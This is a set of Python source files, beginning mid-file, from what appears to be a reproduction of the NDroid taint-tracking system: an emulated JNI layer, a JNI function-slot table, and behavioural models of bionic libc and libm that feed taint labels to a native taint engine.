        record.fields["message"] = Slot(string_address, TAINT_CLEAR, True)
        # Invoke the class's constructor through dvmCallMethod if it has one.
        class_def = self.vm.classes.get(record.class_name)
        if class_def and "<init>" in (class_def.methods if class_def else {}):
            method = class_def.methods["<init>"]
            block = self.chars_heap.alloc(4)
            iref = self.vm.irt.add_local(exception_address)
            saved4 = cpu.regs[:4]
            cpu.regs[0] = self.method_handle(method)
            cpu.regs[1] = iref
            cpu.regs[2] = block
            cpu.regs[3] = 0
            self.emu.call_host(self.symbols["dvmCallMethodV"])
            cpu.regs[0:4] = saved4
            self.chars_heap.free(block)
        return string_address

    def _env_ThrowNew(self, ctx: HostContext):
        class_name = self.class_from_handle(ctx.arg(1))
        message_ptr = ctx.arg(2)
        cpu = self.emu.cpu
        saved = cpu.regs[0]
        cpu.regs[0] = ctx.arg(1)
        self.emu.call_host(self.symbols["dvmAllocObject"])
        exception_address = cpu.regs[0]
        cpu.regs[0] = saved

        saved2 = cpu.regs[:2]
        cpu.regs[0], cpu.regs[1] = exception_address, message_ptr
        self.emu.call_host(self.symbols["initException"])
        cpu.regs[0:2] = saved2

        self.pending_exception = (exception_address, TAINT_CLEAR, class_name)
        self.vm.event_log.emit(
            "jni", "ThrowNew", f"{class_name} @0x{exception_address:08x}",
            class_name=class_name, exception=exception_address,
            message_ptr=message_ptr)
        return 0

    def _env_Throw(self, ctx: HostContext):
        record = self._object_from_iref(ctx.arg(1))
        self.pending_exception = (record.address, TAINT_CLEAR,
                                  record.class_name)
        return 0

    def _env_ExceptionOccurred(self, ctx: HostContext):
        if self.pending_exception is None:
            return 0
        return self.vm.irt.add_local(self.pending_exception[0])

    def _env_ExceptionClear(self, ctx: HostContext):
        self.pending_exception = None
        return 0

    # ----------------------------------------------------- RegisterNatives

    def _env_RegisterNatives(self, ctx: HostContext):
        """Bind native methods explicitly, the JNI_OnLoad way.

        The method table is an array of ``JNINativeMethod`` structs::

            +0 name pointer   +4 signature pointer   +8 function pointer

        Real malware prefers this to ``Java_*`` symbol export because it
        hides the native entry points from static inspection.
        """
        class_name = self.class_from_handle(ctx.arg(1))
        table_ptr = ctx.arg(2)
        count = ctx.arg(3)
        memory = self.emu.memory
        class_def = self.vm.classes.get(class_name)
        if class_def is None:
            return 0xFFFF_FFFF  # JNI_ERR
        bound = 0
        for index in range(count):
            entry = table_ptr + 12 * index
            name = memory.read_cstring(memory.read_u32(entry)).decode(
                "utf-8", errors="replace")
            function = memory.read_u32(entry + 8)
            method = class_def.methods.get(name)
            if method is None or not method.is_native:
                return 0xFFFF_FFFF
            method.native_address = function
            # Rebinding invalidates the compiled call plan (belt and
            # braces: the closure re-reads native_address anyway).
            if self._trampolines.pop(method, None) is not None:
                self.trampoline_invalidations += 1
            bound += 1
            self.vm.event_log.emit(
                "jni", "RegisterNatives",
                f"{class_name}->{name} @0x{function & ~1:08x}",
                class_name=class_name, method=name, address=function)
        return 0 if bound == count else 0xFFFF_FFFF

    def _env_UnregisterNatives(self, ctx: HostContext):
        class_name = self.class_from_handle(ctx.arg(1))
        class_def = self.vm.classes.get(class_name)
        if class_def is None:
            return 0xFFFF_FFFF
        for method in class_def.methods.values():
            if method.is_native:
                method.native_address = 0
                if self._trampolines.pop(method, None) is not None:
                    self.trampoline_invalidations += 1
        return 0
