"""JNIEnv function-table slot assignments.

Native assembly reaches a JNI function by loading its pointer from the
env's function table::

    ldr ip, [r0]              ; r0 = JNIEnv*, [r0] = function table
    ldr ip, [ip, #<offset>]   ; offset = 4 * slot index
    blx ip

Scenario apps interpolate ``jni_offset("NewStringUTF")`` into their
assembly sources.  Slot numbering is ours (stable, dense); the real JNI
table's numbering differs but nothing in the reproduction depends on the
absolute indices.
"""

from __future__ import annotations

from typing import Dict

_PRIMS = ["Boolean", "Byte", "Char", "Short", "Int", "Long", "Float",
          "Double"]
_CALL_TYPES = ["Void", "Object"] + _PRIMS

_names = [
    "FindClass",
    "GetMethodID", "GetStaticMethodID", "GetFieldID", "GetStaticFieldID",
    "NewObject", "NewObjectV", "NewObjectA",
    "NewString", "NewStringUTF",
    "GetStringUTFChars", "ReleaseStringUTFChars", "GetStringLength",
    "GetStringUTFLength",
    "NewObjectArray", "GetObjectArrayElement", "SetObjectArrayElement",
    "GetArrayLength",
    "NewGlobalRef", "DeleteGlobalRef", "DeleteLocalRef",
    "Throw", "ThrowNew", "ExceptionOccurred", "ExceptionClear",
    "GetByteArrayRegion", "SetByteArrayRegion",
    "GetIntArrayRegion", "SetIntArrayRegion",
    "GetObjectClass", "RegisterNatives", "UnregisterNatives",
]
for _type in _PRIMS:
    _names.append(f"New{_type}Array")
for _type in _CALL_TYPES:
    _names.append(f"Call{_type}Method")
    _names.append(f"Call{_type}MethodV")
    _names.append(f"Call{_type}MethodA")
    _names.append(f"CallStatic{_type}Method")
    _names.append(f"CallStatic{_type}MethodV")
    _names.append(f"CallStatic{_type}MethodA")
    _names.append(f"CallNonvirtual{_type}Method")
    _names.append(f"CallNonvirtual{_type}MethodV")
    _names.append(f"CallNonvirtual{_type}MethodA")
for _type in ["Object"] + _PRIMS:
    _names.append(f"Get{_type}Field")
    _names.append(f"Set{_type}Field")
    _names.append(f"GetStatic{_type}Field")
    _names.append(f"SetStatic{_type}Field")

JNI_SLOTS: Dict[str, int] = {name: index for index, name in enumerate(_names)}
JNI_FUNCTION_COUNT = len(_names)


def jni_offset(name: str) -> int:
    """Byte offset of ``name``'s pointer within the JNIEnv function table."""
    return 4 * JNI_SLOTS[name]
