"""The JNI layer: ``libdvm``'s boundary-crossing machinery.

Materialises everything the paper's DVM hook engine instruments
(Section V.B), at real addresses inside the emulated ``libdvm.so`` region:

* **JNI entry** — ``dvmCallJNIMethod``, the call bridge through which every
  Java→native invocation passes (with TaintDroid's interleaved parameter
  taints in the outs area it receives);
* **JNI exit** — the ``Call<Type>Method{,V,A}`` family, funnelling through
  ``dvmCallMethod*`` and ``dvmInterpret`` exactly as in Table II;
* **object creation** — NOF→MAF pairs of Table III (``NewStringUTF`` →
  ``dvmCreateStringFromCstr`` etc.);
* **field access** — the ``Get*/Set*Field`` functions of Table IV;
* **exception** — ``ThrowNew`` → ``initException`` → ``dvmCallMethod``;

plus the JNIEnv function table in guest memory, so native ARM code calls
JNI functions through real function pointers (``ldr ip,[r0]; ldr ip,[ip,#off];
blx ip``).
"""

from repro.jni.layer import JniLayer
from repro.jni.slots import JNI_SLOTS, jni_offset

__all__ = ["JniLayer", "JNI_SLOTS", "jni_offset"]
