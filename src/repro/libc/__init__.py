"""The modelled C library (bionic libc + libm).

The paper does not trace libc instruction-by-instruction: "we model the
taint propagation operations for popular functions" (Section V.D, Table
VI).  Accordingly this package provides *host-implemented* libc/libm
functions registered at addresses inside the emulated ``libc.so``/
``libm.so`` regions.  Emulated native code calls them through ordinary
``blx``, and NDroid's system-library hook engine attaches taint handlers
and sink checks to exactly these addresses.
"""

from repro.libc.libc import CLibrary
from repro.libc.libm import MathLibrary
from repro.libc.taint_interface import NativeTaintInterface, NullTaintInterface

__all__ = [
    "CLibrary",
    "MathLibrary",
    "NativeTaintInterface",
    "NullTaintInterface",
]
