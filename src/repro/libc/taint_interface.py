"""Bridge between the behavioural libc and a native taint engine.

The modelled libc is purely behavioural; taint *propagation* for it is the
job of NDroid's system-library hook engine.  But data that leaves the
process through the kernel (file writes, socket sends, formatted output)
must carry byte taints at departure time, so the libc asks an installed
:class:`NativeTaintInterface` for them.  Under a TaintDroid-only or vanilla
configuration the :class:`NullTaintInterface` is used and nothing in the
native world is tainted — which is precisely the blindness the paper
demonstrates.
"""

from __future__ import annotations

from typing import List

from repro.common.taint import TAINT_CLEAR, TaintLabel


class NativeTaintInterface:
    """Read-side view of a native taint engine."""

    def memory_taints(self, address: int, length: int) -> List[TaintLabel]:
        raise NotImplementedError

    def memory_taint_union(self, address: int, length: int) -> TaintLabel:
        result = TAINT_CLEAR
        for label in self.memory_taints(address, length):
            result |= label
        return result

    def register_taint(self, index: int) -> TaintLabel:
        raise NotImplementedError

    def write_memory_taints(self, address: int,
                            labels: List[TaintLabel]) -> None:
        """Write-side hook: formatted output lands tainted in memory."""
        raise NotImplementedError


class NullTaintInterface(NativeTaintInterface):
    """No native taint tracking (vanilla and TaintDroid-only setups)."""

    def memory_taints(self, address: int, length: int) -> List[TaintLabel]:
        return [TAINT_CLEAR] * length

    def register_taint(self, index: int) -> TaintLabel:
        return TAINT_CLEAR

    def write_memory_taints(self, address: int,
                            labels: List[TaintLabel]) -> None:
        return None
