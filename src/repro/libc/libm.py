"""Behavioural model of libm (Table VI's second row of modelled functions).

The emulated CPU has no FPU, so — as on soft-float Android ABIs — floats
and doubles travel in core registers as IEEE-754 bit patterns: a float in
one register, a double in a low/high register pair.  Each function unpacks
its arguments, computes with Python's ``math``, and repacks the result into
R0 (float) or R0:R1 (double).
"""

from __future__ import annotations

import math
import struct
from typing import Callable, Dict

from repro.emulator.emulator import Emulator, HostContext

LIBM_BASE = 0x5100_0000
LIBM_SIZE = 0x0001_0000


def _unpack_double(low: int, high: int) -> float:
    return struct.unpack("<d", struct.pack("<II", low, high))[0]


def _pack_double(value: float):
    try:
        low, high = struct.unpack("<II", struct.pack("<d", value))
    except (OverflowError, ValueError):
        low, high = struct.unpack("<II", struct.pack("<d", math.inf))
    return low, high


def _unpack_float(word: int) -> float:
    return struct.unpack("<f", struct.pack("<I", word))[0]


def _pack_float(value: float) -> int:
    try:
        return struct.unpack("<I", struct.pack("<f", value))[0]
    except (OverflowError, ValueError):
        return struct.unpack("<I", struct.pack("<f", math.inf))[0]


def _safe(function: Callable[..., float], *args: float) -> float:
    try:
        return function(*args)
    except (ValueError, OverflowError, ZeroDivisionError):
        return math.nan


class MathLibrary:
    """The modelled libm: unary/binary double and float entry points."""

    _DOUBLE_UNARY = {
        "sin": math.sin, "cos": math.cos, "sqrt": math.sqrt,
        "floor": math.floor, "log": math.log, "exp": math.exp,
        "ceil": math.ceil, "tan": math.tan, "acos": math.acos,
        "log10": math.log10, "atan": math.atan, "asin": math.asin,
        "sinh": math.sinh, "cosh": math.cosh,
    }
    _DOUBLE_BINARY = {
        "pow": math.pow, "atan2": math.atan2, "fmod": math.fmod,
        "ldexp": lambda x, i: math.ldexp(x, int(i)),
    }
    _FLOAT_UNARY = {
        "sinf": math.sin, "cosf": math.cos, "sqrtf": math.sqrt,
        "expf": math.exp,
    }
    _FLOAT_BINARY = {
        "powf": math.pow, "atan2f": math.atan2,
    }

    def __init__(self, emu: Emulator, base: int = LIBM_BASE) -> None:
        self.emu = emu
        self.base = base
        self.symbols: Dict[str, int] = {}
        offset = 0

        def register(name: str, function) -> None:
            nonlocal offset
            address = base + offset
            offset += 16
            self.symbols[name] = address
            emu.register_host_function(address, name, function)

        for name, function in self._DOUBLE_UNARY.items():
            register(name, self._double_unary(function))
        for name, function in self._DOUBLE_BINARY.items():
            register(name, self._double_binary(function))
        for name, function in self._FLOAT_UNARY.items():
            register(name, self._float_unary(function))
        for name, function in self._FLOAT_BINARY.items():
            register(name, self._float_binary(function))
        # strtod/strtol live in libm per the paper's Table VI grouping.
        register("strtod", self._strtod)
        register("strtol", self._strtol)
        emu.memory_map.map(base, LIBM_SIZE, "libm.so", perms="r-x")

    def address_of(self, name: str) -> int:
        return self.symbols[name]

    def _double_unary(self, function):
        def implementation(ctx: HostContext):
            value = _unpack_double(ctx.arg(0), ctx.arg(1))
            low, high = _pack_double(_safe(function, value))
            ctx.set_result(low, high)
            return None
        return implementation

    def _double_binary(self, function):
        def implementation(ctx: HostContext):
            a = _unpack_double(ctx.arg(0), ctx.arg(1))
            b = _unpack_double(ctx.arg(2), ctx.arg(3))
            low, high = _pack_double(_safe(function, a, b))
            ctx.set_result(low, high)
            return None
        return implementation

    def _float_unary(self, function):
        def implementation(ctx: HostContext):
            value = _unpack_float(ctx.arg(0))
            return _pack_float(_safe(function, value))
        return implementation

    def _float_binary(self, function):
        def implementation(ctx: HostContext):
            a = _unpack_float(ctx.arg(0))
            b = _unpack_float(ctx.arg(1))
            return _pack_float(_safe(function, a, b))
        return implementation

    def _strtod(self, ctx: HostContext):
        import re

        text = ctx.cstring_arg(0).lstrip()
        match = re.match(r"[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?", text)
        value = float(match.group(0)) if match else 0.0
        low, high = _pack_double(value)
        ctx.set_result(low, high)
        return None

    def _strtol(self, ctx: HostContext):
        from repro.libc.libc import _parse_c_integer
        data = ctx.emu.memory.read_cstring(ctx.arg(0))
        base = ctx.arg(2) or 10
        return _parse_c_integer(data, base)
