"""Behavioural model of bionic libc, registered as host functions.

Each function listed in the paper's Table VI (modelled taint propagation)
and Table VII (hooked standard library calls) is implemented here against
the emulated memory and the simulated kernel.  Functions are laid out at
fixed offsets inside the ``libc.so`` region, so both native code (via
``blx``) and NDroid's hook engine (via the memory map + symbol offsets,
Section V.G) address them the same way the real system does.

Behaviour and taint are deliberately separated: these implementations move
bytes; NDroid's system-library hook engine, attached to the same
addresses, moves taint.  The only taint awareness here is at the kernel
boundary — data leaving through ``write``/``send``/``fprintf``/… asks the
installed :class:`NativeTaintInterface` for the departing bytes' labels so
files and packets stay labelled.
"""

from __future__ import annotations

import struct
from typing import Callable, Dict, List, Optional

from repro.common.errors import KernelError
from repro.common.taint import TAINT_CLEAR, TaintLabel
from repro.emulator.emulator import Emulator, HostContext
from repro.kernel.kernel import Kernel, O_APPEND, O_CREAT, O_RDONLY, O_TRUNC
from repro.observability.ledger import Loc
from repro.libc.stdio_format import format_with_taints, sscanf_parse
from repro.libc.taint_interface import NativeTaintInterface, NullTaintInterface
from repro.memory.allocator import FreeListAllocator

LIBC_BASE = 0x5000_0000
LIBC_SIZE = 0x0001_0000
LIBC_HEAP_BASE = 0x5800_0000
LIBC_HEAP_SIZE = 0x0100_0000

_SC_PAGESIZE = 39
_SC_NPROCESSORS_ONLN = 97

EOF = 0xFFFF_FFFF  # -1


class CLibrary:
    """The modelled libc: symbol table + host-function implementations."""

    def __init__(self, emu: Emulator, kernel: Kernel,
                 base: int = LIBC_BASE) -> None:
        self.emu = emu
        self.kernel = kernel
        self.base = base
        self.symbols: Dict[str, int] = {}
        self.heap = FreeListAllocator(LIBC_HEAP_BASE, LIBC_HEAP_SIZE)
        self.taint_interface: NativeTaintInterface = NullTaintInterface()
        # Provenance ledger (observability); None when not tracing.
        self.ledger = None
        # FILE* -> fd mapping; the FILE struct itself lives in guest memory
        # so the paper's "Return FILE@0x4006fd44" style logs are real
        # addresses.
        self._file_objects: Dict[int, int] = {}
        # Installed by the framework's dynamic linker.
        self.dlopen_handler: Optional[Callable[[str], int]] = None
        self.dlsym_handler: Optional[Callable[[int, str], int]] = None
        self._next_offset = 0
        self._register_all()
        emu.memory_map.map(base, LIBC_SIZE, "libc.so", perms="r-x")
        emu.memory_map.map(LIBC_HEAP_BASE, LIBC_HEAP_SIZE, "[native heap]",
                           perms="rw-")

    # -- registration ------------------------------------------------------------

    def _register(self, name: str, function) -> None:
        address = self.base + self._next_offset
        self._next_offset += 16
        self.symbols[name] = address
        self.emu.register_host_function(address, name, function)

    def address_of(self, name: str) -> int:
        return self.symbols[name]

    def _register_all(self) -> None:
        for name in [
            # memory
            "malloc", "free", "calloc", "realloc", "memcpy", "memmove",
            "memset", "memcmp", "memchr",
            # strings
            "strlen", "strcmp", "strncmp", "strcasecmp", "strncasecmp",
            "strcpy", "strncpy", "strcat", "strchr", "strrchr", "strstr",
            "strdup", "atoi", "atol", "strtoul",
            "sprintf", "snprintf", "vsprintf", "vsnprintf", "sscanf",
            # stdio
            "fopen", "fclose", "fread", "fwrite", "fprintf", "vfprintf",
            "fgets", "fputc", "fputs", "getc", "fdopen",
            # unix
            "open", "close", "read", "write", "stat", "fstat", "fcntl",
            "ioctl", "mmap", "munmap", "mprotect", "mkdir", "rename",
            "remove", "kill", "fork", "execve", "chown", "ptrace",
            "sysconf", "select",
            "dlopen", "dlsym", "dlclose",
            # sockets
            "socket", "connect", "bind", "listen", "accept",
            "send", "sendto", "recv", "recvfrom",
        ]:
            self._register(name, getattr(self, "_impl_" + name))

    # -- shared helpers ------------------------------------------------------------

    def _memory(self):
        return self.emu.memory

    def _taints_of(self, address: int, length: int) -> List[TaintLabel]:
        return self.taint_interface.memory_taints(address, length)

    def _vararg_reader(self, ctx: HostContext, fixed: int):
        return lambda index: ctx.arg(fixed + index)

    def _vararg_taint(self, ctx: HostContext, fixed: int):
        def taint_of(index: int) -> TaintLabel:
            arg_index = fixed + index
            if arg_index < 4:
                return self.taint_interface.register_taint(arg_index)
            slot = ctx.cpu.sp + 4 * (arg_index - 4)
            return self.taint_interface.memory_taint_union(slot, 4)
        return taint_of

    def _capture_string_sources(self):
        """Wrap the %s taint callback to note tainted source ranges, so
        the sprintf-family ledger edges name the buffers they read."""
        sources: List[Loc] = []

        def string_taints(address: int, length: int) -> List[TaintLabel]:
            taints = self._taints_of(address, length)
            if any(taints):
                sources.append(Loc.mem(address, max(length, 1)))
            return taints

        return string_taints, sources

    def _format(self, ctx: HostContext, fmt_address: int, fixed: int):
        memory = self._memory()
        fmt = memory.read_cstring(fmt_address)
        string_taints, sources = self._capture_string_sources()
        data, taints = format_with_taints(
            memory, fmt,
            read_vararg=self._vararg_reader(ctx, fixed),
            vararg_taint=self._vararg_taint(ctx, fixed),
            string_taints=string_taints)
        return data, taints, sources

    def _fd_for_file(self, file_pointer: int) -> int:
        fd = self._file_objects.get(file_pointer)
        if fd is None:
            raise KernelError(f"bad FILE* 0x{file_pointer:08x}")
        return fd

    def _make_file_object(self, fd: int) -> int:
        pointer = self.heap.alloc(8)
        self._memory().write_u32(pointer, fd)
        self._file_objects[pointer] = fd
        return pointer

    # == memory ======================================================================

    def _impl_malloc(self, ctx: HostContext) -> int:
        size = ctx.arg(0)
        return self.heap.alloc(size) if size else 0

    def _impl_free(self, ctx: HostContext) -> int:
        self.heap.free(ctx.arg(0))
        return 0

    def _impl_calloc(self, ctx: HostContext) -> int:
        total = ctx.arg(0) * ctx.arg(1)
        if total == 0:
            return 0
        address = self.heap.alloc(total)
        self._memory().fill(address, total, 0)
        return address

    def _impl_realloc(self, ctx: HostContext) -> int:
        old, new_size = ctx.arg(0), ctx.arg(1)
        new_address, copy_length = self.heap.realloc(old, new_size)
        if copy_length:
            self._memory().copy(new_address, old, copy_length)
        return new_address

    def _impl_memcpy(self, ctx: HostContext) -> int:
        dest, src, length = ctx.arg(0), ctx.arg(1), ctx.arg(2)
        self._memory().copy(dest, src, length)
        return dest

    def _impl_memmove(self, ctx: HostContext) -> int:
        return self._impl_memcpy(ctx)

    def _impl_memset(self, ctx: HostContext) -> int:
        dest, value, length = ctx.arg(0), ctx.arg(1), ctx.arg(2)
        self._memory().fill(dest, length, value & 0xFF)
        return dest

    def _impl_memcmp(self, ctx: HostContext) -> int:
        a = self._memory().read_bytes(ctx.arg(0), ctx.arg(2))
        b = self._memory().read_bytes(ctx.arg(1), ctx.arg(2))
        return _compare(a, b)

    def _impl_memchr(self, ctx: HostContext) -> int:
        start, needle, length = ctx.arg(0), ctx.arg(1) & 0xFF, ctx.arg(2)
        data = self._memory().read_bytes(start, length)
        index = data.find(bytes([needle]))
        return 0 if index < 0 else start + index

    # == strings ======================================================================

    def _cstr(self, address: int) -> bytes:
        return self._memory().read_cstring(address)

    def _impl_strlen(self, ctx: HostContext) -> int:
        return len(self._cstr(ctx.arg(0)))

    def _impl_strcmp(self, ctx: HostContext) -> int:
        return _compare(self._cstr(ctx.arg(0)), self._cstr(ctx.arg(1)))

    def _impl_strncmp(self, ctx: HostContext) -> int:
        n = ctx.arg(2)
        return _compare(self._cstr(ctx.arg(0))[:n], self._cstr(ctx.arg(1))[:n])

    def _impl_strcasecmp(self, ctx: HostContext) -> int:
        return _compare(self._cstr(ctx.arg(0)).lower(),
                        self._cstr(ctx.arg(1)).lower())

    def _impl_strncasecmp(self, ctx: HostContext) -> int:
        n = ctx.arg(2)
        return _compare(self._cstr(ctx.arg(0))[:n].lower(),
                        self._cstr(ctx.arg(1))[:n].lower())

    def _impl_strcpy(self, ctx: HostContext) -> int:
        dest, src = ctx.arg(0), ctx.arg(1)
        data = self._cstr(src)
        self._memory().write_bytes(dest, data + b"\x00")
        return dest

    def _impl_strncpy(self, ctx: HostContext) -> int:
        dest, src, n = ctx.arg(0), ctx.arg(1), ctx.arg(2)
        data = self._cstr(src)[:n]
        padded = data + b"\x00" * (n - len(data))
        self._memory().write_bytes(dest, padded)
        return dest

    def _impl_strcat(self, ctx: HostContext) -> int:
        dest, src = ctx.arg(0), ctx.arg(1)
        existing = self._cstr(dest)
        addition = self._cstr(src)
        self._memory().write_bytes(dest + len(existing), addition + b"\x00")
        return dest

    def _impl_strchr(self, ctx: HostContext) -> int:
        start, needle = ctx.arg(0), ctx.arg(1) & 0xFF
        data = self._cstr(start)
        index = (data + b"\x00").find(bytes([needle]))
        return 0 if index < 0 else start + index

    def _impl_strrchr(self, ctx: HostContext) -> int:
        start, needle = ctx.arg(0), ctx.arg(1) & 0xFF
        data = self._cstr(start)
        index = (data + b"\x00").rfind(bytes([needle]))
        return 0 if index < 0 else start + index

    def _impl_strstr(self, ctx: HostContext) -> int:
        haystack_address = ctx.arg(0)
        haystack = self._cstr(haystack_address)
        needle = self._cstr(ctx.arg(1))
        index = haystack.find(needle)
        return 0 if index < 0 else haystack_address + index

    def _impl_strdup(self, ctx: HostContext) -> int:
        data = self._cstr(ctx.arg(0))
        address = self.heap.alloc(len(data) + 1)
        self._memory().write_bytes(address, data + b"\x00")
        return address

    def _impl_atoi(self, ctx: HostContext) -> int:
        return _parse_c_integer(self._cstr(ctx.arg(0)), 10)

    def _impl_atol(self, ctx: HostContext) -> int:
        return _parse_c_integer(self._cstr(ctx.arg(0)), 10)

    def _impl_strtoul(self, ctx: HostContext) -> int:
        base = ctx.arg(2) or 10
        return _parse_c_integer(self._cstr(ctx.arg(0)), base)

    # printf family --------------------------------------------------------------

    def _impl_sprintf(self, ctx: HostContext) -> int:
        dest = ctx.arg(0)
        data, taints, sources = self._format(ctx, ctx.arg(1), fixed=2)
        self._memory().write_bytes(dest, data + b"\x00")
        self._record_formatted(dest, taints, sources)
        return len(data)

    def _impl_snprintf(self, ctx: HostContext) -> int:
        dest, limit = ctx.arg(0), ctx.arg(1)
        data, taints, sources = self._format(ctx, ctx.arg(2), fixed=3)
        clipped = data[:max(limit - 1, 0)]
        if limit:
            self._memory().write_bytes(dest, clipped + b"\x00")
        self._record_formatted(dest, taints[:len(clipped)], sources)
        return len(data)

    def _impl_vsprintf(self, ctx: HostContext) -> int:
        # va_list is a pointer to the packed argument words.
        dest, fmt_address, va_list = ctx.arg(0), ctx.arg(1), ctx.arg(2)
        data, taints, sources = self._format_va(fmt_address, va_list)
        self._memory().write_bytes(dest, data + b"\x00")
        self._record_formatted(dest, taints, sources)
        return len(data)

    def _impl_vsnprintf(self, ctx: HostContext) -> int:
        dest, limit, fmt_address, va_list = (ctx.arg(i) for i in range(4))
        data, taints, sources = self._format_va(fmt_address, va_list)
        clipped = data[:max(limit - 1, 0)]
        if limit:
            self._memory().write_bytes(dest, clipped + b"\x00")
        self._record_formatted(dest, taints[:len(clipped)], sources)
        return len(data)

    def _format_va(self, fmt_address: int, va_list: int):
        memory = self._memory()
        fmt = memory.read_cstring(fmt_address)
        string_taints, sources = self._capture_string_sources()
        data, taints = format_with_taints(
            memory, fmt,
            read_vararg=lambda index: memory.read_u32(va_list + 4 * index),
            vararg_taint=lambda index: self.taint_interface.memory_taint_union(
                va_list + 4 * index, 4),
            string_taints=string_taints)
        return data, taints, sources

    def _record_formatted(self, dest: int, taints: List[TaintLabel],
                          sources: Optional[List[Loc]] = None) -> None:
        """Land formatted-output taints in the native taint map."""
        self.taint_interface.write_memory_taints(dest, taints)
        if any(taints):
            self.kernel.event_log.emit(
                "libc", "format.tainted",
                f"formatted output @0x{dest:08x} carries taint",
                dest=dest, taints=taints)
            if self.ledger is not None and sources:
                union = TAINT_CLEAR
                for taint in taints:
                    union |= taint
                dst = Loc.mem(dest, max(len(taints), 1))
                for src in sources:
                    tag = self.taint_interface.memory_taint_union(
                        src.base, src.length) or union
                    self.ledger.record(tag, "libc:sprintf", src, dst)

    def _impl_sscanf(self, ctx: HostContext) -> int:
        memory = self._memory()
        text = memory.read_cstring(ctx.arg(0))
        fmt = memory.read_cstring(ctx.arg(1))
        conversions = fmt.count(b"%") - 2 * fmt.count(b"%%")
        pointers = [ctx.arg(2 + i) for i in range(conversions)]
        return sscanf_parse(memory, text, fmt, pointers)

    # == stdio =========================================================================

    def _impl_fopen(self, ctx: HostContext) -> int:
        path = ctx.cstring_arg(0)
        mode = ctx.cstring_arg(1)
        flags = O_RDONLY
        if "w" in mode:
            flags = O_CREAT | O_TRUNC
        elif "a" in mode:
            flags = O_CREAT | O_APPEND
        try:
            fd = self.kernel.sys_open(path, flags)
        except KernelError:
            return 0  # NULL on failure, as fopen does
        return self._make_file_object(fd)

    def _impl_fdopen(self, ctx: HostContext) -> int:
        return self._make_file_object(ctx.arg(0))

    def _impl_fclose(self, ctx: HostContext) -> int:
        pointer = ctx.arg(0)
        fd = self._fd_for_file(pointer)
        del self._file_objects[pointer]
        self.heap.free(pointer)
        self.kernel.sys_close(fd)
        return 0

    def _impl_fwrite(self, ctx: HostContext) -> int:
        address, size, count, file_pointer = (ctx.arg(i) for i in range(4))
        length = size * count
        payload = self._memory().read_bytes(address, length)
        fd = self._fd_for_file(file_pointer)
        self.kernel.sys_write(fd, payload, self._taints_of(address, length),
                              src_loc=Loc.mem(address, max(length, 1)))
        return count

    def _impl_fread(self, ctx: HostContext) -> int:
        address, size, count, file_pointer = (ctx.arg(i) for i in range(4))
        fd = self._fd_for_file(file_pointer)
        chunk, __ = self.kernel.sys_read(fd, size * count)
        self._memory().write_bytes(address, chunk)
        return len(chunk) // size if size else 0

    def _impl_fprintf(self, ctx: HostContext) -> int:
        fd = self._fd_for_file(ctx.arg(0))
        data, taints, sources = self._format(ctx, ctx.arg(1), fixed=2)
        self.kernel.sys_write(fd, data, taints,
                              src_loc=sources[0] if sources else None)
        return len(data)

    def _impl_vfprintf(self, ctx: HostContext) -> int:
        fd = self._fd_for_file(ctx.arg(0))
        data, taints, sources = self._format_va(ctx.arg(1), ctx.arg(2))
        self.kernel.sys_write(fd, data, taints,
                              src_loc=sources[0] if sources else None)
        return len(data)

    def _impl_fgets(self, ctx: HostContext) -> int:
        address, limit, file_pointer = ctx.arg(0), ctx.arg(1), ctx.arg(2)
        fd = self._fd_for_file(file_pointer)
        out = bytearray()
        while len(out) < limit - 1:
            chunk, __ = self.kernel.sys_read(fd, 1)
            if not chunk:
                break
            out.extend(chunk)
            if chunk == b"\n":
                break
        if not out:
            return 0
        self._memory().write_bytes(address, bytes(out) + b"\x00")
        return address

    def _impl_fputc(self, ctx: HostContext) -> int:
        char, file_pointer = ctx.arg(0) & 0xFF, ctx.arg(1)
        fd = self._fd_for_file(file_pointer)
        taint = self.taint_interface.register_taint(0)
        self.kernel.sys_write(fd, bytes([char]), [taint])
        return char

    def _impl_fputs(self, ctx: HostContext) -> int:
        address, file_pointer = ctx.arg(0), ctx.arg(1)
        data = self._cstr(address)
        fd = self._fd_for_file(file_pointer)
        self.kernel.sys_write(fd, data, self._taints_of(address, len(data)),
                              src_loc=Loc.mem(address, max(len(data), 1)))
        return len(data)

    def _impl_getc(self, ctx: HostContext) -> int:
        fd = self._fd_for_file(ctx.arg(0))
        chunk, __ = self.kernel.sys_read(fd, 1)
        return chunk[0] if chunk else EOF

    # == unix I/O ======================================================================

    def _impl_open(self, ctx: HostContext) -> int:
        try:
            return self.kernel.sys_open(ctx.cstring_arg(0), ctx.arg(1))
        except KernelError:
            return EOF

    def _impl_close(self, ctx: HostContext) -> int:
        self.kernel.sys_close(ctx.arg(0))
        return 0

    def _impl_read(self, ctx: HostContext) -> int:
        chunk, __ = self.kernel.sys_read(ctx.arg(0), ctx.arg(2))
        self._memory().write_bytes(ctx.arg(1), chunk)
        return len(chunk)

    def _impl_write(self, ctx: HostContext) -> int:
        address, length = ctx.arg(1), ctx.arg(2)
        payload = self._memory().read_bytes(address, length)
        return self.kernel.sys_write(ctx.arg(0), payload,
                                     self._taints_of(address, length),
                                     src_loc=Loc.mem(address,
                                                     max(length, 1)))

    def _impl_stat(self, ctx: HostContext) -> int:
        try:
            info = self.kernel.sys_stat(ctx.cstring_arg(0))
        except KernelError:
            return EOF
        self._memory().write_u32(ctx.arg(1), info["size"])
        return 0

    def _impl_fstat(self, ctx: HostContext) -> int:
        self._memory().write_u32(ctx.arg(1), 0)
        return 0

    def _impl_fcntl(self, ctx: HostContext) -> int:
        return 0

    def _impl_ioctl(self, ctx: HostContext) -> int:
        return 0

    def _impl_mmap(self, ctx: HostContext) -> int:
        length = ctx.arg(1)
        return self.heap.alloc(max(length, 1))

    def _impl_munmap(self, ctx: HostContext) -> int:
        try:
            self.heap.free(ctx.arg(0))
        except Exception:
            return EOF
        return 0

    def _impl_mprotect(self, ctx: HostContext) -> int:
        return 0

    def _impl_mkdir(self, ctx: HostContext) -> int:
        try:
            return self.kernel.sys_mkdir(ctx.cstring_arg(0))
        except KernelError:
            return EOF

    def _impl_rename(self, ctx: HostContext) -> int:
        try:
            return self.kernel.sys_rename(ctx.cstring_arg(0),
                                          ctx.cstring_arg(1))
        except KernelError:
            return EOF

    def _impl_remove(self, ctx: HostContext) -> int:
        try:
            return self.kernel.sys_unlink(ctx.cstring_arg(0))
        except KernelError:
            return EOF

    def _impl_kill(self, ctx: HostContext) -> int:
        self.kernel.event_log.emit("libc", "kill", pid=ctx.arg(0),
                                   signal=ctx.arg(1))
        return 0

